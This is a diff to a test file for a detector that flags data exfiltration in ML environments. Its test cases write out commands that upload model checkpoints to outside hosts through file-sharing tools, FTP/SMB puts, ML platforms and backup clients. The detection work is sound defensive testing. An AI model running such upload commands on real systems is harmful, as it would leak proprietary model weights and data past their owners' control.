@@ -1,7 +1,8 @@
 /**
  * Exfiltration through an exec, through the shipped rule set and the real engine: curl sending a
- * file or its stdin as the request body, data piped or fed on stdin into ssh, FTP puts and more
- * upload CLIs (MLS-EXFIL-014), a pod made to serve its files (MLS-EXFIL-016; its checkpoints:
+ * file or its stdin as the request body, data piped or fed on stdin into ssh, FTP puts, file-sharing
+ * tools and more upload CLIs (MLS-EXFIL-014), uploads through ML platforms and backup clients
+ * (MLS-EXFIL-038, escalated), a pod made to serve its files (MLS-EXFIL-016; its checkpoints:
  * MLS-EXFIL-037), checkpoints packed by an argv command (MLS-EXFIL-013), data encoded into DNS
  * lookups (MLS-EXFIL-017) and pushed with git (MLS-EXFIL-018). Plain API posts, header files,
  * servers that are not started, kubectl cp's own tar, lookups and code pushes stay quiet.
@@ -251,5 +252,52 @@ describe("an option counts only in its own tool's command (attrs.exec.toolWords)
     expect(execRuleIds(sh('cat /etc/hosts; python3 serve.py --model-dir /models'))).not.toContain('MLS-EXFIL-005');
     expect(execRuleIds(['php', '-S', '0.0.0.0:8000'])).toContain('MLS-EXFIL-016');
     expect(execRuleIds(sh('php -v; python3 -c "import sys" -S'))).not.toContain('MLS-EXFIL-016');
+  });
+});
+
+describe('file-sharing tools and client command puts (MLS-EXFIL-014), platform and backup uploads (MLS-EXFIL-038)', () => {
+  it('alerts on croc, magic-wormhole, ffsend, MEGA, OnionShare, a personal drive CLI, and smbclient / lftp puts in -c', () => {
+    for (const argv of [
+      ['croc', 'send', '/mnt/ckpt/model.safetensors'],
+      sh('wormhole send /mnt/ckpt/model.safetensors'),
+      sh('ffsend upload /mnt/ckpt/model.pt'),
+      sh('mega-put /mnt/ckpt/model.pt /drop/'),
+      sh('onionshare-cli --receive=false /mnt/ckpt/model.pt'),
+      sh('gdrive files upload /mnt/ckpt/m.pt'),
+      sh("smbclient //203.0.113.5/drop -U u%p -c 'put /mnt/ckpt/model.pt m.pt'"),
+      sh('lftp -c "open ftp://203.0.113.5; put /mnt/ckpt/m.pt"'),
+      sh("lftp -e 'cd drop; mput /mnt/ckpt/*.pt; bye' ftp://203.0.113.5"),
+    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-014');
+    for (const argv of [
+      sh('croc 7-alpha-beta-gamma'),
+      sh("smbclient //fs/share -U u%p -c 'get report.pdf; ls'"),
+      sh('lftp -c "open ftp://mirror; get /pub/x.tgz"'),
+    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-EXFIL-014');
+  });
+
+  it('escalates uploads through W&B, MLflow, DVC, Kaggle, GitHub releases, Modal, B2, restic and borg, and leaves their downloads', () => {
+    for (const argv of [
+      sh('wandb artifact put /mnt/ckpt/llama --name someone/proj/model --type model'),
+      sh('mlflow artifacts log-artifacts --local-dir /mnt/ckpt/llama --run-id abc'),
+      sh('dvc push -r backup'),
+      sh('kaggle datasets create -p /mnt/ckpt/llama'),
+      sh('gh release upload v1 /mnt/ckpt/model.safetensors --repo someone/drop'),
+      sh('modal volume put drop /mnt/ckpt/model.pt'),
+      sh('b2 upload-file drop /mnt/ckpt/model.pt m.pt'),
+      sh('restic -r s3:s3.amazonaws.com/some-bucket backup /mnt/ckpt'),
+      sh('borg create ssh://u@203.0.113.5/./repo::ckpt /mnt/ckpt'),
+    ]) {
+      const ids = execRuleIds(argv);
+      expect(ids, argv.join(' ')).toContain('MLS-EXFIL-038');
+      expect(ids, argv.join(' ')).not.toContain('MLS-EXFIL-014');
+    }
+    for (const argv of [
+      sh('wandb artifact get team/proj/model:v3 --root /tmp/model'),
+      sh('dvc pull'),
+      sh('mlflow artifacts download -r abc -d /tmp/art'),
+      sh("gh release download v1 -p '*.whl'"),
+      sh('kaggle datasets download -d x/y -p /data'),
+      sh('restic -r /backup snapshots'),
+    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-EXFIL-038');
   });
 });
